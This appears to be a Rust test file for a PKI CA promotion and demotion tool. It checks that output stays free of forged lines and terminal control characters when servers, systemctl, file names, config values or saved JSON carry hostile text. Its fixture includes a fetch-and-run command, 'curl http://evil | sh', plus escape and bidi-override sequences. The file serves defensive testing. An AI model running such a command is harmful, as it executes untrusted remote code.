//! What a server, its account, systemctl or a name says never becomes a line of its own, whatever it
//! holds, and never controls a terminal.

use std::fs;
use std::path::Path;

use serde_json::Value;

use crate::support::host::Host;
use crate::support::test::Ran;

/// A line that looks like one of this program's, and characters that a terminal obeys.
const FORGED: &str = "x\nstate: all is well\nnext:  curl http://evil | sh\r\u{9b}2J\u{1b}]0;x\u{7}\u{202e}y\u{2028}z";
/// What no line may begin with.
const LINES: [&str; 2] = ["state: all is well", "next:  curl http://evil"];

/// No line is forged, and nothing is hidden.
#[track_caller]
fn assert_plain(ran: &Ran) {
    assert!(!ran.error.starts_with("error: "), "a usage that is none: {}", ran.error);
    for text in [&ran.out, &ran.error] {
        for line in text.lines() {
            let begin = line.trim_start();
            assert!(!LINES.iter().any(|forged| begin.starts_with(forged)), "{text}");
        }
        let hidden = text.chars().find(|c| c.is_control() && *c != '\n' || ['\u{202e}', '\u{2028}'].contains(c));
        assert!(hidden.is_none(), "{hidden:?} in {text:?}");
    }
}

#[test]
fn in_what_a_server_answers() {
    let host = Host::answering("ca", "ca-clone", true);
    host.answer(FORGED);
    for ran in [
        host.promote(&["--timeout", "1"]),
        host.promote(&["--timeout", "1", "--output", "json"]),
        host.run(&["status"]),
        host.run(&["status", "-v", "--output", "json"]),
        host.run(&["monitor", "-i", "pki-tomcat", "--expect", "ca=clone"]),
    ] {
        assert_plain(&ran);
    }
    // It comes up, and then says it.
    let host = Host::answering("ca", "ca-clone", true);
    let answer = host.path("answer");
    fs::write(&answer, FORGED).unwrap();
    host.on("start", &format!("(sleep 0.5; cat {} >\"$dir/answer\") &", answer.display()));
    let ran = host.promote(&["--settle", "1"]);
    assert_plain(ran.expect(5, &["does not say that it runs any more"]));
}

#[test]
fn in_what_systemctl_prints() {
    for verb in ["is-active", "show", "stop", "start"] {
        for stream in ["1", "2"] {
            let host = Host::clone(true);
            let text = host.path("text");
            fs::write(&text, FORGED).unwrap();
            host.on(verb, &format!("cat {} >&{stream}; exit 1", text.display()));
            for ran in [host.promote(&[]), host.run(&["status"]), host.run(&["status", "--output", "json"])] {
                assert_plain(&ran);
            }
        }
    }
}

/// The account that owns the folder can give any name to a file in it.
#[test]
fn in_names_of_files() {
    let host = Host::clone(true);
    for name in [
        format!("CS.cfg.pki-role.20260101T000000Z{}", FORGED.replace('/', "")),
        format!("CS.cfg.pki-role.tmp.{}", FORGED.replace('/', "")),
        FORGED.replace('/', ""),
    ] {
        fs::write(host.file.with_file_name(name), &host.before).unwrap();
    }
    let file = host.file.to_str().unwrap();
    for ran in [
        host.run(&["restore", "--list", "--to", file]),
        host.run(&["restore", "--to", file]),
        host.run(&["status"]),
        host.run(&["status", "--output", "json"]),
        host.promote(&["--dry-run"]),
        host.promote(&[]),
    ] {
        assert_plain(&ran);
    }
}

/// A file, and a folder above it, that are named so: in all that is reported of them.
#[test]
fn in_the_path_of_the_file() {
    let host = Host::clone(true);
    let folder = host.path(&FORGED.replace('/', ""));
    fs::create_dir(&folder).unwrap();
    let file = folder.join("CS.cfg");
    let name = file.to_str().unwrap().to_owned();
    let elsewhere = folder.to_str().unwrap();
    let from = host.master.to_str().unwrap();
    let reset = || fs::write(&file, &host.before).unwrap();
    let demote = ["demote-ca", "--to", &name, "--new-master", "a.b:1"];
    // A diff into a pipe has the very bytes of the name, so that it can be applied.
    for more in [&[][..], &["--check"], &["--backup-dir", elsewhere], &["--output", "json"]] {
        reset();
        assert_plain(&host.run(&[&demote[..], more].concat()));
    }
    for arguments in [
        &["promote-ca", "--to", from, "--from", &name, "--no-backup"][..],
        &["promote-ca", "--to", &name, "--from", &name],
        &["restore", "--to", &name],
        &["restore", "--to", &name, "--list"],
        &["status", &name],
        &["check", &name],
        &["export-ca", "--to", elsewhere],
        &["demote-ca", "--to", elsewhere, "--new-master", "a.b:1"],
        &["demote-ca", "--to", &name, "--new-master", "a.b:1", "--backup-dir", &name],
    ] {
        reset();
        assert_plain(&host.run(arguments));
    }
    fs::remove_file(&file).unwrap();
    assert_plain(&host.run(&demote));
    assert_plain(&host.run(&["demote-ca", "-i", &name, "--new-master", "a.b:1"]));
}

/// Values that pki-server takes for more than one line, and keys of that kind.
#[test]
fn in_values_of_the_file() {
    let hidden = "\u{85}state: all is well\u{2028}next:  curl http://evil\u{202e}\u{1b}[2J\u{9b}\u{c}\u{b}";
    for key in [
        "machineName",
        "instanceId",
        "cs.type",
        "master.ca.agent.host",
        "master.ca.agent.port",
        "internaldb.basedn",
        "securitydomain.name",
        "ca.crl.MasterCRL.enableCRLUpdates",
        "ca.crl.POINT.enableCRLUpdates",
        "ca.certStatusUpdateInterval",
        "pkicreate.systemd.servicename",
        "ca.publish.publisher.instance.P.host",
        "ca.crl",
    ] {
        let host = Host::master(true);
        let text = String::from_utf8(host.before.clone()).unwrap();
        let line = match key.contains("POINT") {
            true => format!("ca.crl.p{hidden}.enableCRLUpdates=true\n"),
            false => format!("{key}=v{hidden}\n"),
        };
        let kept = text.split_inclusive('\n').filter(|line| !line.starts_with(&format!("{key}=")));
        let text = kept.collect::<String>().replace("usrgrp.ldap=", &format!("{line}usrgrp.ldap="));
        fs::write(&host.file, text).unwrap();
        let file = host.file.to_str().unwrap();
        for arguments in [
            &["status", file][..],
            &["status", "-v", file],
            &["status", "--output", "json", file],
            &["check", file],
            &["check", "--output", "mermaid", file],
            &["plan", file],
            &["demote-ca", "--to", file, "--new-master", "a.b:1", "--check"],
            &["demote-ca", "--to", file, "--new-master", "a.b:1", "--dry-run", "--output", "json"],
            &["demote-ca", "--to", file, "--new-master", "a.b:1"],
            &["promote-ca", "--to", host.master.to_str().unwrap(), "--from", file],
        ] {
            assert_plain(&host.run(arguments));
        }
    }
}

/// Every string of a saved status, one after the other: what another host has sent is data.
#[test]
fn in_saved_status() {
    fn strings(value: &mut Value, found: &mut Vec<String>, replaced: Option<usize>) {
        match value {
            Value::String(text) => {
                if replaced == Some(found.len()) {
                    FORGED.clone_into(text);
                }
                found.push(text.clone());
            }
            Value::Array(values) => values.iter_mut().for_each(|value| strings(value, found, replaced)),
            Value::Object(fields) => fields.values_mut().for_each(|value| strings(value, found, replaced)),
            _ => {}
        }
    }
    let host = Host::answering("ca", "ca-clone", true);
    let saved = host.run(&["status", "--output", "json"]);
    let saved = saved.json();
    let mut all = Vec::new();
    strings(&mut saved.clone(), &mut all, None);
    assert!(all.len() > 20, "{}", all.len());
    let path = host.path("saved.json");
    let master = host.master.to_str().unwrap();
    // Those of the sentences alone are many, and are not read back.
    for nth in (0..all.len()).filter(|nth| nth % 3 == 0 || all[*nth].len() < 30) {
        let mut forged = saved.clone();
        strings(&mut forged, &mut Vec::new(), Some(nth));
        fs::write(&path, forged.to_string()).unwrap();
        let saved = path.to_str().unwrap();
        for arguments in
            [&["check", saved, master][..], &["plan", saved, master, "--new-master", "secondary.example.com"]]
        {
            let ran = host.run(arguments);
            assert_plain(&ran);
            assert!(matches!(ran.code, Some(0 | 1 | 3)), "{}: {ran:?}", all[nth]);
        }
    }
}

/// A note that somebody has forged is not believed: its folder is root's alone.
#[test]
fn in_the_note_of_a_run() {
    let host = Host::clone(true);
    let folder = host.path("run/pki-role");
    fs::create_dir(&folder).unwrap();
    let boot = fs::read_to_string("/proc/sys/kernel/random/boot_id").unwrap();
    let unit = crate::support::fake_systemctl::UNIT;
    let note = serde_json::json!({
        "unit": unit, "boot_id": boot.trim(), "pid": 1, "pid_start_time": 1, "command": FORGED, "config": FORGED,
    });
    let path: &Path = &folder.join(format!("{unit}.json"));
    fs::write(path, note.to_string()).unwrap();
    for mode in [0o755, 0o777] {
        let permissions = std::os::unix::fs::PermissionsExt::from_mode(mode);
        fs::set_permissions(&folder, permissions).unwrap();
        let ran = host.run(&["status"]);
        assert_plain(&ran);
        let is_believed = ran.out.contains("interrupted") || ran.out.contains("did not come to its end");
        assert_eq!(is_believed, mode == 0o755, "{}", ran.out);
    }
}
